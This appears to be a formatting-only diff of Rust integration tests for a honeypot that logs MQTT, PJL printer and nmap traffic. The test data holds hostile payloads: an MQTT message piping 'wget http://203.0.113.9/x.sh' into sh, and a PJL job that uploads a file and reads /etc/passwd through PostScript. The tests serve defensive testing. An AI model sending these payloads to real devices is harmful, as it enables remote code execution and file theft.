@@ -72,8 +72,14 @@ async fn mosquitto_clients_log_in_subscribe_and_publish() {
     let port = h.port(Protocol::Mqtt).to_string();
     // A publish with an accepted pair, at QoS 1 (PUBACK) under MQTT 5.
     let mut c = Command::new("mosquitto_pub");
-    c.args(["-h", "127.0.0.1", "-p", &port, "-V", "mqttv5", "-i", "bot-7", "-u", "admin", "-P", "pa:ss w0rd"])
-        .args(["-q", "1", "-t", "cmd/exec", "-m", "wget http://203.0.113.9/x.sh -O- | sh"]);
+    c.args(["-h", "127.0.0.1", "-p", &port, "-V", "mqttv5", "-i", "bot-7", "-u", "admin", "-P", "pa:ss w0rd"]).args([
+        "-q",
+        "1",
+        "-t",
+        "cmd/exec",
+        "-m",
+        "wget http://203.0.113.9/x.sh -O- | sh",
+    ]);
     let out = run_client(c, CLIENT_TIMEOUT).await;
     assert!(out.status.success(), "mosquitto_pub: {}", String::from_utf8_lossy(&out.stderr));
     // A refused pair (MQTT 3.1.1): "not authorised".
@@ -163,7 +169,9 @@ async fn nc_print_job_is_kept_whole_and_its_pjl_commands_recorded() {
     let port = h.port(Protocol::Printer).to_string();
     let mut job = b"\x1b%-12345X@PJL INFO ID\r\n@PJL RDYMSG DISPLAY=\"PWNED\"\r\n@PJL INFO STATUS\r\n".to_vec();
     job.extend_from_slice(b"@PJL FSDOWNLOAD FORMAT:BINARY SIZE=4 NAME=\"0:\\evil\"\r\nELF!");
-    job.extend_from_slice(b"@PJL ENTER LANGUAGE=POSTSCRIPT\r\n%!PS-Adobe-3.0\n(/etc/passwd) (r) file\nshowpage\n\x1b%-12345X");
+    job.extend_from_slice(
+        b"@PJL ENTER LANGUAGE=POSTSCRIPT\r\n%!PS-Adobe-3.0\n(/etc/passwd) (r) file\nshowpage\n\x1b%-12345X",
+    );
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("job.pjl");
     std::fs::write(&path, &job).unwrap();
@@ -186,7 +194,9 @@ async fn nc_print_job_is_kept_whole_and_its_pjl_commands_recorded() {
         assert!(cmds.contains(&want.to_string()), "{want:?} in {cmds:?}");
     }
     let sample = evs.iter().find_map(|e| match &e.detail {
-        Detail::Sample { sha256, size, source, outcome, .. } => Some((hex::encode(sha256), *size, source.clone(), *outcome)),
+        Detail::Sample { sha256, size, source, outcome, .. } => {
+            Some((hex::encode(sha256), *size, source.clone(), *outcome))
+        }
         _ => None,
     });
     let want = sha256_hex(&job);
@@ -279,8 +289,11 @@ async fn nmap_names_the_five_services() {
     let (cfg, ip) = standard_ports_config(Persona::WindowsServer, &ports);
     let h = Harness::start_with(cfg, Pressure::Normal, 100_000).await;
     let mut c = Command::new("nmap");
-    c.args(["-sV", "--allports", "-Pn", "-n", "--host-timeout", "150s", "-p", "135,1723,1883,9100,27017"])
-        .args(["--script", "pjl-ready-message,pptp-version", &ip.to_string()]);
+    c.args(["-sV", "--allports", "-Pn", "-n", "--host-timeout", "150s", "-p", "135,1723,1883,9100,27017"]).args([
+        "--script",
+        "pjl-ready-message,pptp-version",
+        &ip.to_string(),
+    ]);
     let out = run_client(c, Duration::from_secs(180)).await;
     let text = String::from_utf8_lossy(&out.stdout).into_owned();
     eprintln!("{text}");
